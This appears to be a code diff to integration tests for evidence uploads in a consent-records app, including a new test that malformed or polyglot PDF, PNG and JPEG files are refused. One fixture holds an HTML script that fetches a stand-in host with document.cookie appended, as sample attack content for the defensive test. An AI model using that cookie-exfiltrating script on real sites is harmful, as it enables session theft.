@@ -4,6 +4,7 @@ import { errorSummary, type TestBrowser } from '../../test/support/browser.ts';
 import { addPerson, consentWorld, givenConsentAnswers, viewerOf, type ConsentWorld } from '../../test/support/consent-fixtures.ts';
 import { createOrganisation, createStaff, signIn, type TestStaff } from '../../test/support/factories.ts';
 import { testApp, type TestContext } from '../../test/support/harness.ts';
+import { largePng, sampleJpeg, samplePdf, samplePng } from '../../test/support/sample-files.ts';
 
 let context: TestContext;
 let world: ConsentWorld;
@@ -14,10 +15,13 @@ let childId: string;
 let consentId: string;
 
 const marker = 'AMELIA-HUGHES-SIGNED-CONSENT-MARKER';
-const pdf = Buffer.from(`%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\n% ${marker}\ntrailer << /Root 1 0 R >>\n%%EOF\n`, 'latin1');
-const png = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.from('\x00\x00\x00\x0dIHDR-a-small-photo-of-the-form', 'latin1')]);
+// Real files: uploads are parsed whole, so a signature with anything behind it is refused.
+let pdf: Buffer;
+const png = samplePng();
+const jpeg = sampleJpeg();
 
 beforeAll(async () => {
+  pdf = await samplePdf({ title: marker });
   context = await testApp({ SIGN_IN_ADDRESS_LIMIT: '1000' });
   world = consentWorld(context);
   const organisationId = await createOrganisation(context, { name: `Swindon Borough Council ${randomUUID().slice(0, 6)}` });
@@ -47,11 +51,11 @@ interface Upload {
 async function upload(browser: TestBrowser, file: Upload | undefined, options: { csrf?: boolean } = {}) {
   await browser.get(`/consents/${consentId}`);
   const form = new FormData();
-  if (options.csrf !== false) form.append('_csrf', browser.csrfToken ?? '');
+  if (options.csrf !== false) form.append('_csrf', await browser.formToken());
   form.append('evidence', new Blob([file?.bytes ?? Buffer.alloc(0)], { type: file?.type ?? 'application/octet-stream' }), file?.name ?? '');
   const request = new Response(form);
   const payload = Buffer.from(await request.arrayBuffer());
-  const cookie = ['safeshare_session', 'safeshare_csrf'].flatMap((name) => (browser.cookie(name) === undefined ? [] : [`${name}=${browser.cookie(name) ?? ''}`])).join('; ');
+  const cookie = ['__Host-safeshare_session', '__Host-safeshare_csrf'].flatMap((name) => (browser.cookie(name) === undefined ? [] : [`${name}=${browser.cookie(name) ?? ''}`])).join('; ');
   return context.app.inject({ method: 'POST', url: `/consents/${consentId}/evidence`, payload, headers: { 'content-type': request.headers.get('content-type') ?? '', cookie } });
 }
 
@@ -86,6 +90,7 @@ describe('uploading and downloading evidence of consent', () => {
     expect(pdfRow.file_name).toBe('Signed consent Amelia.pdf');
     expect(pdfRow.size_bytes).toBe(pdf.length);
     expect(pdfRow.sha256).toBe(sha256(pdf));
+    expect(pdf.includes(Buffer.from(marker))).toBe(true);
     expect(pdfRow.ciphertext.length).toBe(pdf.length);
     expect(pdfRow.ciphertext.includes(Buffer.from(marker))).toBe(false);
     expect(pdfRow.ciphertext.includes(Buffer.from('%PDF-'))).toBe(false);
@@ -173,6 +178,41 @@ describe('uploading and downloading evidence of consent', () => {
     expect(errorSummary(urlencoded.body)).toEqual(['Select a file']);
     expect(await stored()).toBe(before);
     expect(await auditEvents('consent.evidence_uploaded')).toHaveLength(before);
+  });
+
+  it('refuses files that only start like a PDF, PNG or JPEG, and stores nothing', async () => {
+    const browser = await signIn(context, practitioner);
+    const before = await stored();
+    const script = Buffer.from('<html><body><script>fetch("https://example.invalid/?" + document.cookie)</script></body></html>\n', 'latin1');
+    const cases: [Upload, string][] = [
+      [{ name: 'consent.pdf', type: 'application/pdf', bytes: Buffer.concat([Buffer.from('%PDF-1.7\n'), script]) }, 'The selected file is not a complete PDF: it may be damaged, or be another kind of file'],
+      [{ name: 'consent.pdf', type: 'application/pdf', bytes: Buffer.concat([pdf, script]) }, 'The selected file has other content after the end of the PDF'],
+      [{ name: 'consent.pdf', type: 'application/pdf', bytes: pdf.subarray(0, pdf.length - 100) }, 'The selected file is not a complete PDF: it may be damaged, or be another kind of file'],
+      [{ name: 'photo.png', type: 'image/png', bytes: Buffer.concat([png.subarray(0, 8), script]) }, 'The selected file is not a complete PNG image: it may be damaged, or be another kind of file'],
+      [{ name: 'photo.png', type: 'image/png', bytes: png.subarray(0, png.length - 20) }, 'The selected file is not a complete PNG image: it may be damaged, or be another kind of file'],
+      [{ name: 'photo.png', type: 'image/png', bytes: Buffer.concat([png, script]) }, 'The selected file has other content after the end of the PNG image'],
+      [{ name: 'photo.png', type: 'image/png', bytes: largePng(9000, 9000) }, 'The selected image must be smaller than 40 megapixels'],
+      [{ name: 'photo.jpg', type: 'image/jpeg', bytes: Buffer.concat([jpeg.subarray(0, 4), script]) }, 'The selected file is not a complete JPEG image: it may be damaged, or be another kind of file'],
+      [{ name: 'photo.jpg', type: 'image/jpeg', bytes: jpeg.subarray(0, jpeg.length - 40) }, 'The selected file is not a complete JPEG image: it may be damaged, or be another kind of file'],
+    ];
+    for (const [file, message] of cases) {
+      const response = await upload(browser, file);
+      expect(response.statusCode, message).toBe(400);
+      expect(errorSummary(response.body)).toEqual([message]);
+      expect(response.body).toContain('govuk-file-upload');
+    }
+    expect(await stored()).toBe(before);
+    expect(await auditEvents('consent.evidence_uploaded')).toHaveLength(before);
+  });
+
+  it('stores a JPEG photo of a signed form', async () => {
+    const browser = await signIn(context, practitioner);
+    const before = await stored();
+    const posted = await upload(browser, { name: 'IMG_0412.jpg', type: 'image/jpeg', bytes: jpeg });
+    expect(posted.statusCode, errorSummary(posted.body).join('; ')).toBe(303);
+    const row = await context.db.selectFrom('consent_evidence').select(['content_type', 'sha256']).where('consent_id', '=', consentId).where('file_name', '=', 'IMG_0412.jpg').executeTakeFirstOrThrow();
+    expect(row).toEqual({ content_type: 'image/jpeg', sha256: sha256(jpeg) });
+    expect(await stored()).toBe(before + 1);
   });
 
   it('refuses an upload without the CSRF token', async () => {
